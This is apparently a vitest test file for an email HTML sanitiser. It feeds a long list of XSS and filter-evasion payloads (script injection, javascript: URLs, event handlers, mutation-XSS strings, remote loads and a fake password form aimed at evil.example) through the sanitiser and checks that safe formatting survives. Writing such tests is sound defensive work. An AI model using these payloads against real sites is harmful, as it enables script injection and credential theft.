import { describe, expect, test } from "vitest";
import type { FileId } from "#kernel/ids/index.ts";
import { sanitised } from "./sanitise.ts";

const images = new Map([["pic@x", "fil_00000000000000000000000001" as FileId]]);
const clean = (html: string): string => sanitised(html, images) ?? "null";

/** Everything that a browser may run, load, submit or overlay, in the spellings of filter-evasion lists. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math href=javascript:alert(1)>x</math>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<style>@import url(//evil.example/x.css);</style>",
  "<style><style/><img src=x onerror=alert(1)></style>",
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<p style="background:url(//evil.example/x)">x</p>',
  '<p style="background-image:url(javascript:alert(1))">x</p>',
  '<p style="background-color:\\75rl(//evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</p>',
  '<p style="color:red;behavior:url(#x)">x</p>',
  '<p style="font-family:x;src:url(//evil.example/f)">x</p>',
  "<p style=\"color: image-set('//evil.example/x' 1x)\">x</p>",
  '<p style="-moz-binding:url(//evil.example/x)">x</p>',
  "<iframe src=//evil.example></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=//evil.example/x.swf></object>",
  "<embed src=//evil.example/x.swf>",
  "<form action=//evil.example><input name=password><button>Sign in</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>x</select>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<video poster=//evil.example/x>",
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  "<body onload=alert(1) background=//evil.example/x>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<table background="//evil.example/x"><tr><td background="//evil.example/y">x</td></tr></table>',
  '<a href="//evil.example" ping="//evil.example/p" download>x</a>',
  '<img srcset="//evil.example/x 2x" src="cid:none">',
  '<img src="/api/account/me"><img src="//evil.example/x"><img src="http://evil.example/x">',
  '<img src="/files/fil_0000000000000000000000000z">',
  "<template><script>alert(1)</script></template>",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<title><script>alert(1)</script></title>",
  "<a id=cookie name=cookie href=x>x</a><form name=body></form>",
  "<p class=x id=y data-x=z aria-label=q tabindex=1 contenteditable accesskey=x>x</p>",
  "<x onclick=alert(1)>x</x>",
  "</html><script>alert(1)</script>",
  "\0<scr\0ipt>alert(1)</scr\0ipt>",
];
const FORBIDDEN =
  /<\s*(?:script|style|link|meta|base|iframe|object|embed|form|input|button|select|textarea|svg|math|video|audio|source|template|title|body|html|xmp|plaintext|marquee|x)\b|\son\w+\s*=|javascript:|vbscript:|data:|url\(|expression|position|z-index|image-set|srcset|ping=|\b(?:background|poster|action|formaction|id|name|class)=|<!--|evil\.example\/[xyfp]/i;

test.each(ATTACKS)("an attack is made harmless: %s", (html) => {
  const safe = clean(html);
  // Text in a tooltip is harmless as long as it contains no tag.
  expect(safe.replaceAll(/(?:title|alt)="[^"<>]*"/g, "").replaceAll(/&(?:#x?[\da-f]+|\w+);/gi, "")).not.toMatch(FORBIDDEN);
  expect(safe).not.toContain("/api/");
  expect(safe).not.toContain("fil_0000000000000000000000000z");
  // Sanitising the result again must not change it: nothing may turn into something else when parsed twice.
  expect(clean(safe)).toBe(safe);
});

describe("harmless formatting stays", () => {
  test("text, tables, colours, lists and links are kept", () => {
    expect(
      clean(
        '<table width="600" cellpadding="4" bgcolor="#eee"><tr><td align="center" colspan="2" style="color: #333; padding:4px 8px; font-family:Arial, \'Open Sans\', sans-serif;mso-line-height-rule:exactly"><b>Hi</b></td></tr></table>',
      ),
    ).toBe(
      '<table width="600" cellpadding="4" bgcolor="#eee"><tbody><tr><td align="center" colspan="2" style="color:#333;padding:4px 8px;font-family:Arial, &#x27;Open Sans&#x27;, sans-serif"><b>Hi</b></td></tr></tbody></table>',
    );
    expect(clean('<a href="https://x.example/?a=1&amp;b=2">x</a>')).toBe(
      '<a href="https://x.example/?a=1&#x26;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(clean('<p style="background:#fec">x</p>')).toBe('<p style="background:#fec">x</p>');
    expect(clean("<ol start=3><li>a<li>b</ol>")).toBe('<ol start="3"><li>a</li><li>b</li></ol>');
  });
  test("a mail's own images become files, and remote ones stay only with https", () => {
    expect(clean('<img src="cid:pic@x" alt="A">')).toBe(
      '<img src="/files/fil_00000000000000000000000001" alt="A" referrerpolicy="no-referrer">',
    );
    expect(clean('<img src="CID:pic%40x">')).toContain("/files/fil_00000000000000000000000001");
    expect(clean('<img src="https://x.example/a.png">')).toBe('<img src="https://x.example/a.png" referrerpolicy="no-referrer">');
  });
  test("HTML that is too deep or too long is refused, so that the text is shown instead", () => {
    expect(sanitised("<div>".repeat(100_000), images)).toBeNull();
    expect(sanitised("x".repeat(1_000_001), images)).toBeNull();
    expect(sanitised("<b>".repeat(100_001), images)).toBeNull();
    const many = "<p>word</p>".repeat(50_000);
    const before = process.threadCpuUsage();
    expect(sanitised(many, images)).toHaveLength(many.length);
    const { user, system } = process.threadCpuUsage(before);
    expect((user + system) / 1000).toBeLessThan(1000);
  });
});
